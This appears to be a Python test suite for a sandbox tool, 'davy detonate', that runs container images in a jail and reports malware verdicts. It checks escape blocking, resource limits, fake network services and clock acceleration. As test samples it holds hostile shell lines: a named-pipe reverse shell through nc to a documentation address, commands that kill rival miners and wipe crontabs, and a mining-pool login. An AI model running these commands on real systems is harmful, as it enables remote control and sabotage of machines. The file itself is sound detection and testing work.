# SPDX-License-Identifier: Apache-2.0
"""davy detonate: verdicts on images of known shape, no way out of the jail, nothing left behind, and what it says when it cannot."""
import concurrent.futures
import contextlib
import functools
import glob
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest

HERE = pathlib.Path(__file__).parent
sys.path[:0] = [str(HERE.parent / 'corpus'), str(HERE.parents[1] / 'src/sink')]
import check_formats
import corpus
import elsewhere
from patience import PATIENCE, wait_for

DAVY, SHAPE, ESCAPE, CLOCKS = (os.environ[name] for name in ('DAVY', 'CORPUS_SHAPE', 'CORPUS_ESCAPE', 'CORPUS_CLOCKS'))


# What never runs, behind the `exit` of its script: killing rivals, and a miner's command.
RIVALS = '''pkill -9 -f xmrig; pkill -9 -f kinsing; killall kdevtmpfsi; pkill -f kthreaddi; pkill -f sysupdate; pkill -f networkservice
pkill -f watchbog; pkill -f cnrig; pkill -f minerd; crontab -r; chattr -i /root/.ssh/authorized_keys
'''


def why_not():
    if os.geteuid():
        return 'jails need root'
    for program in ('runc', 'busybox'):
        if not shutil.which(program):
            return f'{program} is not installed'
    return None


def detonate(temp, image, *options, seconds=5, env=None):
    """Exit code, report and what was said on standard error."""
    with tempfile.NamedTemporaryFile(dir=temp, suffix='.json') as out:
        done = subprocess.run([DAVY, 'detonate', '--quiet', '--mark', '--no-feed', '-t', str(seconds), '-f', 'json', '-o', out.name, *options, str(image)],
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=600, check=False,
                              env={**os.environ, 'TMPDIR': str(temp), 'XDG_CACHE_HOME': str(temp / 'cache'), **(env or {})})
        try:
            report = json.loads(pathlib.Path(out.name).read_text(encoding='utf-8'))
        except json.JSONDecodeError:
            report = None
        return done.returncode, report, done.stderr


def jails_of(temp):
    """Groups of jails whose yard lies in the folder: other people's are theirs."""
    return [pathlib.Path(p).name for p in glob.glob(f'{temp}/davy-detonate-*/jails/*')]


@functools.cache
def no_jail():
    """None, or why there can be none here."""
    with tempfile.TemporaryDirectory(prefix='davy-test-detonate-') as temp:
        temp = pathlib.Path(temp)
        temp.chmod(0o711)
        code, report, said = detonate(temp, corpus.Image(temp / 'probe').run('/bin/true').write('probe:1'), seconds=2)
        return None if code != 3 else said or report['targets'][0]['failure']


@unittest.skipIf(why_not(), why_not())
class Case(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if no_jail():
            raise unittest.SkipTest(no_jail())
        cls.temp = pathlib.Path(tempfile.mkdtemp(prefix='davy-test-detonate-'))
        cls.temp.chmod(0o711)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.temp, ignore_errors=True)

    def image(self, name):
        return corpus.Image(self.temp / name)

    def gone(self, what):
        """Waits until nothing is left, and says what is."""
        wait_for(lambda: not what(), what, 0.1)


class Verdicts(Case):
    def test_corpus(self):
        wrong = []

        def one(sample):
            name, build, seconds, right = sample
            code, report, said = detonate(self.temp, build(self.temp / f'corpus-{name}'), seconds=seconds)
            target = report['targets'][0]
            word = target.get('verdict', {}).get('word')
            if word not in right or target['unread']['total'] or not target.get('runs'):
                rules = sorted({f['rule'] for f in target['findings']})
                wrong.append(f'{name}: {word}, not {" or ".join(right)}; {rules}; {target["unread"]["list"]}; {said}')
            return name, code, target
        with concurrent.futures.ThreadPoolExecutor(3) as pool:
            results = {name: (code, target) for name, code, target in pool.map(one, list(corpus.samples(SHAPE)))}
        self.assertEqual(wrong, [])
        for name in ('web', 'build', 'minbase'):
            self.assertEqual(results[name][0], 0, name)
        self.assertEqual(results['miner'][0], 1)
        self.miner(results['miner'][1])
        self.gone(lambda: jails_of(self.temp))

    def miner(self, target):
        """One report has the wallet, the pool, and a timeline in order."""
        texts = json.dumps(target)
        self.assertIn('DAVY-TEST-IMITATION-WALLET', texts)
        self.assertIn('mining', target['verdict']['purposes'])
        for axis in ('intent', 'harm'):
            self.assertTrue(target['verdict'][axis]['holds'])
        run = target['runs'][0]
        times = [m['time'] for m in run['timeline']]
        self.assertEqual(times, sorted(times))
        self.assertEqual({m['what'] for m in run['timeline']} & {'start', 'asked', 'found', 'ended'}, {'start', 'asked', 'found', 'ended'})
        found = [m for m in run['timeline'] if m['what'] == 'found']
        self.assertTrue(all(any(f['id'] == m['finding'] for f in target['findings']) for m in found))
        self.assertGreater(run['events'], 0)
        self.assertEqual(run['events_lost'], 0)

    def test_memory_is_looked_at(self):
        """A text that no file has is found in memory that can be executed."""
        rule = self.temp / 'memory.yar'
        rule.write_text('rule Davy_Test_Memory : miner { meta: description = "DAVY TEST IMITATION" strings: $a = "DAVY TEST IMITATION inside memory" condition: $a }')
        image = self.image('memory').put('opt/server', pathlib.Path(SHAPE).read_bytes(), 0o755).run('/opt/server', 'memory').write('memory:1')
        _, report, said = detonate(self.temp, image, f'--yara={rule}', seconds=3)
        findings = report['targets'][0]['findings']
        texts = [f['subject']['name'] for f in findings if 'Davy_Test_Memory' in json.dumps(f)]
        self.assertTrue(texts and all(t.startswith('/proc/') for t in texts), (findings, said))

    def test_each_suspicious_file_runs(self):
        script = corpus.GUARD + 'echo ran by itself\nexit 0\n' + RIVALS
        image = self.image('each').put('opt/tune.sh', script, 0o644).run('/bin/true').write('each:1')
        _, report, said = detonate(self.temp, image, '--each', seconds=60)
        runs = {r['command']: r for r in report['targets'][0]['runs']}
        self.assertEqual(sorted(runs), ['/bin/sh /opt/tune.sh', '/bin/true'], (report['targets'][0]['findings'], said))
        self.assertEqual(runs['/bin/sh /opt/tune.sh']['output'].strip(), 'ran by itself')

    def test_the_own_command_runs_once(self):
        """Although a threat lies in it, and --each runs whatever one lies in."""
        image = self.image('once').put('opt/tune.sh', corpus.GUARD + 'exit 0\n' + RIVALS, 0o755).run('/opt/tune.sh').write('once:1')
        _, report, said = detonate(self.temp, image, '--each', seconds=60)
        self.assertEqual([r['command'] for r in report['targets'][0]['runs']], ['/opt/tune.sh'], said)

    def test_samples_refuse_to_run_elsewhere(self):
        for program in (SHAPE, ESCAPE, CLOCKS):
            done = subprocess.run([program, 'kill', '1', 'x', '1', '/x', '::1'], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False)
            self.assertEqual(done.returncode, 3)
            self.assertIn('DAVY TEST IMITATION', done.stderr)


class Walls(Case):
    def listeners(self):
        """Everything that a word could reach on this machine; what was heard."""
        heard = []
        tcp = socket.create_server(('::', 0), family=socket.AF_INET6, dualstack_ipv6=True)
        udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        udp.bind(('::', 0))
        name = f'davy-test-{os.getpid()}'
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind('\0' + name)
        unix.listen()
        for s in (tcp, udp, unix):
            self.addCleanup(s.close)

        def wait(s, take):
            while True:
                try:
                    heard.append(take(s))
                except OSError:
                    return
        threading.Thread(target=wait, args=(tcp, lambda s: s.accept()[1]), daemon=True).start()
        threading.Thread(target=wait, args=(udp, lambda s: s.recvfrom(100)[0]), daemon=True).start()
        threading.Thread(target=wait, args=(unix, lambda s: s.accept()[1]), daemon=True).start()
        return tcp.getsockname()[1], udp.getsockname()[1], name, heard

    def test_no_way_out(self):
        tcp, udp, name, heard = self.listeners()
        secret = self.temp / 'secret'
        secret.write_text('of the machine')
        own = []
        with contextlib.suppress(socket.gaierror):  # a machine need not know its own name
            own = [a[4][0] for a in socket.getaddrinfo(socket.gethostname(), 80, socket.AF_INET, socket.SOCK_STREAM)]
        addresses = ['127.0.0.1', '::1', '0.0.0.0', '255.255.255.255', '8.8.8.8', '2001:4860:4860::8888', '172.17.0.1', 'fe80::1', '224.0.0.1', *own]
        image = self.image('escape').put('opt/escape', pathlib.Path(ESCAPE).read_bytes(), 0o755).run(
            '/opt/escape', str(tcp), str(udp), name, str(os.getpid()), str(secret), *addresses).write('escape:1')
        for network in ('pretend', 'none'):
            with self.subTest(network=network):
                # the one with the pace of its clocks: who answers for them is no way out
                fast = ['--fast=20'] if network == 'none' else []
                image_code, report, said = detonate(self.temp, image, f'--network={network}', *fast, seconds=120)
                run = report['targets'][0]['runs'][0]
                lines = run['output'].splitlines()
                self.assertEqual(lines[-1:], ['all tried'], (image_code, said, run))
                self.assertEqual([line for line in lines if 'OPEN' in line], [])
                self.assertGreater(len(lines), 70)
                self.assertEqual(heard, [])
                self.assertEqual(run['exchanges'] > 0, network == 'pretend')

    def test_bounds(self):
        """Processes, memory and disk end where they are said to."""
        script = ('[ -f /run/davy-jail ] || exit 3; dd if=/dev/zero of=/big bs=65536 count=1024 2>/dev/null; echo disk $?; '
                  'i=0; while [ $i -lt 40 ] && sleep 3 & do i=$((i+1)); done; echo made $i')
        image = self.image('bounds').run('/bin/sh', '-c', script).write('bounds:1')
        _, report, said = detonate(self.temp, image, '--disk=16', '--pids=20', seconds=60)
        output = report['targets'][0]['runs'][0]['output']
        self.assertIn('disk 1', output, said)
        self.assertNotIn('made 40', output)

    def test_names_of_files_end_too(self):
        """A file without content costs memory of the kernel: there are as many as fit to the disk."""
        script = corpus.GUARD + 'mkdir /m && cd /m; i=0; while [ $i -lt 30000 ] && : > f$i; do i=$((i+1)); done; echo made $i\n'
        image = self.image('names').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('names:1')
        _, report, said = detonate(self.temp, image, '--disk=16', seconds=100)
        run = report['targets'][0]['runs'][0]
        self.assertIn('No space left', run['output'], (run, said))
        self.assertTrue(4000 < run['dropped'] < 16 * 256 + 1024, run['dropped'])

    def test_nothing_is_left_after_a_kill(self):
        image = self.image('sleeper').run('/bin/sleep', '60').write('sleeper:1')
        for how in (signal.SIGKILL, signal.SIGTERM):
            with self.subTest(signal=how):
                child = subprocess.Popen([DAVY, 'detonate', '-q', '--no-feed', str(image)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                         env={**os.environ, 'TMPDIR': str(self.temp), 'XDG_CACHE_HOME': str(self.temp / 'cache')})
                ids = []

                def running():
                    return [p for i in ids for p in glob.glob(f'/sys/fs/cgroup/**/{i}/cgroup.procs', recursive=True) if pathlib.Path(p).read_text()]
                def started():
                    ids[:] = jails_of(self.temp)
                    return running() or child.poll() is not None
                wait_for(started, pause=0.1)
                self.assertTrue(running())
                pids = {int(p) for path in running() for p in pathlib.Path(path).read_text().split()}
                child.send_signal(how)
                child.wait(PATIENCE)
                self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))
                self.gone(lambda: [i for i in ids if glob.glob(f'/sys/fs/cgroup/{i}') + glob.glob(f'/sys/fs/cgroup/*/{i}')])
                self.gone(lambda: [p for p in pids if pathlib.Path(f'/proc/{p}/cmdline').exists() and b'sleep' in pathlib.Path(f'/proc/{p}/cmdline').read_bytes()])
                self.assertEqual([m for m in pathlib.Path('/proc/self/mounts').read_text(encoding='utf-8').splitlines() if str(self.temp) in m], [])

    def start(self, image, out):
        child = subprocess.Popen([DAVY, 'detonate', '-q', '--no-feed', '--mark', '-f', 'json', '-o', str(out), str(image)], stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True, env={**os.environ, 'TMPDIR': str(self.temp), 'XDG_CACHE_HOME': str(self.temp / 'cache'),
                                                                         'LC_ALL': 'C.UTF-8'})
        self.addCleanup(child.kill)
        return child

    def test_a_run_that_is_stopped_is_told(self):
        """What it did and dropped until then is in the report, which says that it is not whole; the signal is how it ends."""
        script = '[ -f /run/davy-jail ] || exit 3; echo began; printf "#!/bin/sh\\necho dropped\\n" > /tmp/dropped; chmod 755 /tmp/dropped; sleep 60'
        image, out = self.image('stopped').run('/bin/sh', '-c', script).write('stopped:1'), self.temp / 'stopped.json'
        child = self.start(image, out)
        wait_for(lambda: jails_of(self.temp) or child.poll() is not None, pause=0.1)
        self.assertIsNone(child.poll())
        time.sleep(3)
        child.send_signal(signal.SIGINT)
        said = child.communicate(timeout=PATIENCE)[1]
        self.assertEqual(child.returncode, -signal.SIGINT, said)
        self.assertIn('stopped by SIGINT while it ran: the report tells what was seen until then', said)
        report = json.loads(out.read_text())
        run = report['targets'][0]['runs'][0]
        self.assertIn('began', run['output'])
        self.assertEqual(run['ended'], 'it was stopped')
        self.assertEqual(report['exit_code'], 3)
        self.assertTrue(any(m['what'] == 'dropped' for m in run['timeline']), run)
        self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))

    def test_what_is_stopped_before_it_runs_has_no_report(self):
        out = self.temp / 'early.json'
        child = self.start(self.image('early').run('/bin/true').write('early:1'), out)
        wait_for(lambda: glob.glob(f'{self.temp}/davy-detonate-*') or child.poll() is not None, pause=0.001)
        child.send_signal(signal.SIGTERM)
        said = child.communicate(timeout=PATIENCE)[1]
        self.assertEqual(child.returncode, -signal.SIGTERM, said)
        self.assertIn('stopped by SIGTERM before anything ran; no report was written', said)
        self.assertFalse(out.exists())
        self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))


class Pretend(Case):
    def test_protocols(self):
        """What is asked is answered, and told with its protocol; names keep their addresses."""
        script = r'''[ -f /run/davy-jail ] || exit 3
a=$(wget -q -O- http://shop.example/index.html); echo "page $(echo "$a" | grep -c works)"
wget -q -O- http://api.ipify.org/
(printf 'NICK davy\r\nUSER d 0 * :d\r\nJOIN #imitation\r\n'; sleep 1) | nc irc.example 6667 | grep -c 366
(sleep 1; printf 'EHLO x\r\nMAIL FROM:<a@example>\r\nQUIT\r\n'; sleep 1) | nc mail.example 25 | head -1
(printf '*1\r\n$4\r\nPING\r\n'; sleep 1) | nc cache.example 6379
(printf '{"id":1,"method":"mining.subscribe","params":["davy-imitation/1"]}\n'; sleep 1) | nc pool.example 14444 | head -1
(sleep 1) | nc 203.0.113.9 22 | head -1
(printf '\001\002davy'; sleep 1) | nc 203.0.113.10 9999
'''
        image = self.image('protocols').run('/bin/sh', '-c', script).write('protocols:1')
        _, report, said = detonate(self.temp, image, seconds=120)
        run = report['targets'][0]['runs'][0]
        asked = [m['text'] for m in run['timeline'] if m['what'] == 'asked']
        for part in ('dns A shop.example', 'http GET shop.example /index.html (80)', 'irc JOIN irc.example #imitation (6667)', 'smtp MAIL mail.example',
                     'redis PING cache.example', 'stratum mining.subscribe pool.example (14444)', 'ssh ', 'tcp data 203.0.113.10 (9999)'):
            self.assertTrue(any(part in a for a in asked), (part, asked, run['output'], said))
        for part in ('page 1', '203.0.113.77', '220 mx1.mail.example', '+PONG', 'mining.set_difficulty', 'SSH-2.0-OpenSSH'):
            self.assertIn(part, run['output'])


    def test_pipes_with_names(self):
        """They are no devices: a shell that is led elsewhere by one is seen, and so are services that live by them."""
        script = corpus.GUARD + """mkfifo /tmp/f && echo made; mknod /tmp/zero c 1 5 || echo refused; mknod /tmp/disk b 8 0 || echo refused
(sleep 2; echo exit) | nc -w 3 203.0.113.5 4444 < /tmp/f | sh -i > /tmp/f 2>&1
"""
        image = self.image('fifo').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('fifo:1')
        _, report, said = detonate(self.temp, image, seconds=60)
        target = report['targets'][0]
        output = target['runs'][0]['output'].split('\n')
        self.assertEqual((output.count('made'), output.count('refused')), (1, 2), (output, said))
        self.assertIn('Reverse shell', {f['rule'] for f in target['findings']})

    def test_orders_that_lie_in_public(self):
        """A dead drop by name and by page, then a host that is new: told, and counting beside other evidence only."""
        script = corpus.GUARD + 'busybox nslookup -type=txt cfg.example >/dev/null; wget -q -O /tmp/p http://pastebin.com/raw/DAVYTEST; cat /tmp/p; wget -q -O- http://next.example/\n'
        image = self.image('drop').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('acme/drop:1')
        code, report, said = detonate(self.temp, image, seconds=60)
        target = report['targets'][0]
        rules = {f['rule']: f['kind'] for f in target['findings']}
        self.assertEqual(rules.get('Jailed program asks where orders are left'), 'context', (rules, said))
        self.assertEqual(rules.get('Jailed program asks a name for a text'), 'context', (rules, target['runs'][0]['output']))
        self.assertEqual((code, target['verdict']['word']), (0, 'clean'), rules)

    def test_a_page_is_fetched_and_read(self):
        """Who reads a page that he fetched is no shell, although busybox, which he is, has one."""
        script = corpus.GUARD + 'wget -q -O /tmp/page http://shop.example/ && cat /tmp/page && grep -c works /tmp/page\n'
        image = self.image('reader').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('acme/reader:1')
        code, report, said = detonate(self.temp, image, seconds=60)
        target = report['targets'][0]
        self.assertEqual((code, target['verdict']['word']), (0, 'clean'), ([f['rule'] for f in target['findings']], said))
        self.assertIn('It works', target['runs'][0]['output'])


class Clocks(Case):
    """--fast: who sleeps long is seen at once, and cannot tell by its clocks."""
    def test_one_who_sleeps_an_hour(self):
        script = corpus.GUARD + """date +%s; sleep 3600; date +%s
/opt/clocks 40 | sed 's/^/clocks /'
printf '{"id":1,"method":"login","params":{"login":"DAVY-TEST-IMITATION-WALLET","agent":"davy-imitation/1"}}\\n' | nc pool.example 3333
"""
        image = self.image('late').put('opt/start.sh', script, 0o755).put('opt/clocks', pathlib.Path(CLOCKS).read_bytes(), 0o755).run(
            '/opt/start.sh').write('acme/late:1')
        page, sarif = self.temp / 'late.html', self.temp / 'late.sarif'
        _, report, said = detonate(self.temp, image, '--fast=1200', f'--format=html={page}', f'--format=sarif={sarif}', seconds=200)
        target = report['targets'][0]
        run = target['runs'][0]
        lines = run['output'].splitlines()
        answer = lines.pop() if lines else ''
        self.assertIn('jsonrpc', answer, (lines, said))
        self.assertEqual((len(lines) > 20 and lines[-1], run['ended']), ('clocks all waited', 'exit 0'), (lines, said, target['unread']))
        self.assertTrue(3600 <= int(lines[1]) - int(lines[0]) < 3660, lines[:2])
        self.waits([line.split()[1:] for line in lines[2:-1]])
        self.assertEqual(target['verdict']['word'], 'malicious')
        self.assertIn('Sleeps long and speaks later', {f['rule'] for f in target['findings']})
        self.assertGreater(run['clock_seconds'], 3600)
        self.formats(page, sarif)

    def waits(self, lines):
        """Each took as long as was asked for, by both clocks, which agree; a machine that is busy may add some seconds."""
        kinds = set()
        for kind, asked, monotonic, real in lines:
            asked, monotonic, real = float(asked), float(monotonic), float(real)
            if kind == 'uptime':
                self.assertTrue(-2.5 < monotonic < 2.5 and -1.5 < real < 1.5, (kind, monotonic, real))
                continue
            kinds.add(kind)
            self.assertNotIn('wrong', kind)
            self.assertTrue(asked - 0.01 <= monotonic < asked + 15, (kind, asked, monotonic))
            self.assertLess(abs(monotonic - real), 5, (kind, monotonic, real))
        self.assertTrue({'nanosleep', 'poll', 'select', 'epoll_wait', 'cond', 'alarm', 'timerfd', 'watched', 'asking', 'sleep-after-rubbish'} <= kinds, kinds)

    def formats(self, page, sarif):
        """The page has the timeline as a picture, SARIF the runs and when each finding was made."""
        page, sarif = page.read_bytes(), sarif.read_bytes()
        self.assertEqual((check_formats.check_html(page), check_formats.check_sarif(sarif)), ([], []))
        self.assertIn(b'<svg class="timeline run"', page)
        self.assertIn(b'clocks all waited', page)
        told = json.loads(sarif)['runs'][0]
        timeline = told['properties']['targets'][0]['runs'][0]['timeline']
        seen = [r['properties'] for r in told['results'] if 'mining pool' in r['message']['text'] or 'login to pool' in r['message']['text']]
        self.assertTrue(seen and all(s['run'] == 1 and any(m['time'] == s['seen'] for m in timeline) for s in seen), told['results'])

    def test_without_it_nobody_waits(self):
        image = self.image('sleeper').run('/bin/sh', '-c', '[ -f /run/davy-jail ] || exit 3; date +%s; sleep 3600; date +%s').write('sleeper:1')
        _, report, said = detonate(self.temp, image, seconds=4)
        run = report['targets'][0]['runs'][0]
        self.assertEqual((len(run['output'].splitlines()), run['ended'], run['exchanges']), (1, 'the time was over', 0), said)
        self.assertNotIn('clock_seconds', run)


class Breaks(Case):
    """What cannot be had, or breaks, is no clean run and no finding: 3."""
    def test_runc_fails_late(self):
        runc = self.temp / 'bin/runc'
        runc.parent.mkdir()
        runc.write_text(f'#!/bin/sh\ncase " $* " in *" start "*) exit 9 ;; esac\nexec {shutil.which("runc")} "$@"\n')
        runc.chmod(0o755)
        script = corpus.GUARD + 'exit 0\n' + RIVALS
        image = self.image('late-runc').put('opt/tune.sh', script, 0o755).run('/opt/tune.sh').write('late-runc:1')
        code, report, said = detonate(self.temp, image, seconds=3, env={'PATH': f'{runc.parent}:{os.environ["PATH"]}'})
        target = report['targets'][0]
        self.assertEqual((code, report['exit_code']), (3, 3), (said, target))
        self.assertTrue(target['findings'], 'what the files show is told all the same')
        self.assertIn('runc start failed', json.dumps(target['unread']))
        self.gone(lambda: jails_of(self.temp))

    def test_a_part_of_it_ends(self):
        image = self.image('parts').run('/bin/sleep', '300').write('parts:1')
        for part in ('davy-pretend', 'davy-pace'):
            with self.subTest(part=part):
                done = threading.Thread(target=self.end_part, args=(part,))
                done.start()
                code, report, said = detonate(self.temp, image, '--fast=2', seconds=250)
                done.join()
                target = report['targets'][0]
                self.assertEqual((code, target['runs'][0]['ended']), (3, 'the jail broke'), (said, target['unread']))
                self.assertTrue(target['unread']['total'])
        self.gone(lambda: jails_of(self.temp))

    def end_part(self, name):
        """Ends that process of the jail in this folder, once its command runs."""
        end = time.monotonic() + PATIENCE
        while time.monotonic() < end:
            for status in glob.glob('/proc/[0-9]*/status'):
                try:
                    fields = dict(line.split(':\t', 1) for line in pathlib.Path(status).read_text(encoding='utf-8').splitlines() if ':\t' in line)
                    parent = pathlib.Path(f'/proc/{fields["PPid"]}/environ').read_bytes()
                    children = [pathlib.Path(f'/proc/{c}/comm').read_text(encoding='utf-8').strip()
                                for c in pathlib.Path(f'/proc/{fields["PPid"]}/task/{fields["PPid"]}/children').read_text(encoding='utf-8').split()]
                except (OSError, KeyError, ValueError):
                    continue
                if fields['Name'] == name and f'TMPDIR={self.temp}\0'.encode() in parent and 'sleep' in children:
                    os.kill(int(fields['Pid']), signal.SIGKILL)
                    return
            time.sleep(0.1)


    def test_runc_does_not_end(self):
        runc = self.temp / 'stuck/runc'
        runc.parent.mkdir()
        runc.write_text(f'#!/bin/sh\ncase " $* " in *" start "*) sleep 300 ;; esac\nexec {shutil.which("runc")} "$@"\n')
        runc.chmod(0o755)
        image = self.image('stuck-runc').run('/bin/true').write('stuck-runc:1')
        code, report, said = detonate(self.temp, image, seconds=3, env={'PATH': f'{runc.parent}:{os.environ["PATH"]}'})
        self.assertEqual(code, 3, said)
        self.assertIn('runc start did not end within', json.dumps(report['targets'][0]['unread']))
        self.gone(lambda: jails_of(self.temp))

    def test_what_cannot_be_run_says_why_and_what_to_do(self):
        """And what the files show is told all the same, on a page too."""
        page = self.temp / 'refused.html'
        script = corpus.GUARD + 'exit 0\n' + RIVALS
        for name, words, why in (('gone', ['/opt/gone'], 'the image has no program `/opt/gone`'), ('text', ['/opt/text'], 'may be executed'),
                                 ('folder', ['/opt'], 'may be executed'), ('by-path', ['gone'], 'no program `gone`'),
                                 ('interpreter', ['/opt/no-interpreter'], 'could not be executed')):
            with self.subTest(name):
                image = self.image(f'refused-{name}').put('opt/tune.sh', script, 0o755).put('opt/text', 'text').put(
                    'opt/no-interpreter', '#!/opt/missing\n', 0o755).run(*words).write('refused:1')
                code, report, said = detonate(self.temp, image, f'--format=html={page}', seconds=5)
                target = report['targets'][0]
                self.assertEqual((code, report['exit_code']), (3, 3), (said, target['unread']))
                self.assertIn(why, target['failure'])
                self.assertNotIn('runc', target['failure'])
                self.assertIn('Script evicts rivals', {f['rule'] for f in target['findings']})
                self.assertIn('Script evicts rivals', page.read_text(encoding='utf-8'))
                self.assertIn('not finished', page.read_text(encoding='utf-8'))
        code, report, _ = detonate(self.temp, self.image('user').run('/bin/true', user='1000690000').write('user:1'))
        self.assertEqual((code, 'up to 65535' in report['targets'][0]['failure']), (3, True))

    def test_what_runs_already_is_no_image(self):
        for name in ('/', '//.', 'pid:1'):
            code, report, said = detonate(self.temp, name)
            self.assertEqual((code, report['targets'][0]['failure']), (3, f'{name} runs already; an image can be detonated'), said)

    def test_odd_words_of_an_image_do_not_save_it(self):
        """An environment without names, a working folder that is relative: what other runtimes take, a jail takes."""
        image = self.image('odd')
        image.config.update(Env=['=x', 'A', '=', 'B=2', 'PATH=/bin'], WorkingDir='srv')
        image.put('srv/start.sh', corpus.GUARD + 'pwd; echo $B\n', 0o755).run('./start.sh').write('odd:1')
        code, report, said = detonate(self.temp, image.folder, seconds=20)
        self.assertEqual((code, report['targets'][0]['runs'][0]['output']), (0, '/srv\n2\n'), (said, report['targets'][0]))


class Refusals(unittest.TestCase):
    def run_it(self, *words, davy=DAVY, **more):
        return subprocess.run([davy, 'detonate', *words], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                              timeout=600, check=False, **more)

    def test_usage(self):
        for words in ((), ('--time', '0', 'x'), ('--network', 'real', 'x'), ('--no-such', 'x'), ('',), ('one.tar', 'two.tar')):
            done = self.run_it(*words)
            self.assertEqual((done.returncode, bool(done.stderr)), (2, True), words)

    @unittest.skipIf(os.geteuid(), 'gives up being root')
    def test_without_root(self):
        def give_up():
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)
        with tempfile.TemporaryDirectory() as temp, tempfile.TemporaryDirectory() as home:
            os.chmod(home, 0o777)
            done = self.run_it('image.tar', davy=elsewhere.copied(temp, 'detonate'), preexec_fn=give_up, env={**os.environ, 'HOME': home})
        self.assertEqual(done.returncode, 3, done.stderr)
        self.assertIn('root', done.stderr)

    @unittest.skipIf(os.geteuid(), 'runs as root')
    def test_without_runc(self):
        """Where nothing else than ours is in the way of programs."""
        with tempfile.TemporaryDirectory() as temp:
            command = ['unshare', '-m', 'sh', '-c', 'p=$(command -v runc) && mount --bind /dev/null "$p" && exec "$@"', 'sh', DAVY, 'detonate', 'image.tar']
            if not shutil.which('runc') or not shutil.which('unshare'):
                self.skipTest('runc or unshare is not installed')
            done = subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=600,
                                  check=False, env={**os.environ, 'TMPDIR': temp})
        self.assertEqual(done.returncode, 3, done.stderr)
        self.assertIn('runc', done.stderr)


if __name__ == '__main__':
    if why_not():
        print(f'SKIP: {why_not()}')
        sys.exit(77)
    unittest.main(verbosity=2)
